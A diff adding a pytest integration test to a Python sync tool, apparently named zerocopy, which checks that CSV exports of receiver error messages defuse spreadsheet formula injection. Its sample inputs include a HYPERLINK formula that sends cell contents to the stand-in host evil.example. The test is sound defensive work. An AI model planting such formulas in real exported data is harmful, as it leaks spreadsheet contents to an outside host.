@@ -13,6 +13,9 @@ as that index.
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 from pathlib import Path
 from typing import Any
 
@@ -29,6 +32,7 @@ from tests.integration.test_http_destination import (
 )
 from tests.peers.http_destination.fixtures import HttpPeer, http_peer, http_peer_server
 from zerocopy.errors import ZerocopyError
+from zerocopy.services.syncs import export_row_logs
 from zerocopy.state.db import Database
 
 __all__ = ["http_peer", "http_peer_server", "sync_db"]
@@ -95,3 +99,31 @@ async def test_a_refusal_past_the_end_of_the_second_http_batch_names_it(
     await dest.aclose()
     assert info.value.code == "destination_error"
     assert "index 3" in info.value.message and "3 rows" in info.value.message, info.value
+
+
+async def test_a_receiver_s_reason_opened_in_a_spreadsheet_is_text_not_a_formula(
+    sync_db: Database, http_peer: HttpPeer, tmp_path: Path
+) -> None:
+    """The CSV export is opened in spreadsheets. Every cell zerocopy writes starts with a
+    letter, a digit or ``{`` (a row is JSON), but a receiver's reason is its own text: one
+    starting with ``=``, ``+``, ``-`` or ``@`` was a formula there (CSV injection, OWASP).
+    Such a cell is written after a ``'`` (the spreadsheet's text mark); JSON lines keep it."""
+    duck = tmp_path / "wh.duckdb"
+    warehouse(duck, 5)
+    sync_id = await http_sync(sync_db, duck, {"batch_rows": 10})
+    reasons = ['=HYPERLINK("http://evil.example/?"&A1,"fix")', "+1-2", "-1+2", "@SUM(A1)"]
+    http_peer.script(
+        answer(
+            *({"index": i, "code": "invalid_field", "message": m} for i, m in enumerate(reasons))
+        )
+    )
+    run = await sync_engine(sync_db, http_peer).run(sync_id)
+    assert (run.status, run.rows_errored) == ("partial_success", 4), run.error_message
+    text = b"".join([c async for c in export_row_logs(sync_db, run.id, fmt="csv")]).decode()
+    table = list(csv.DictReader(io.StringIO(text)))
+    assert [r["message"] for r in table] == [f"'{m}" for m in reasons], table
+    for record in table:
+        for cell in record.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), record
+    lines = b"".join([c async for c in export_row_logs(sync_db, run.id, fmt="jsonl")])
+    assert [json.loads(x)["message"] for x in lines.splitlines()] == reasons
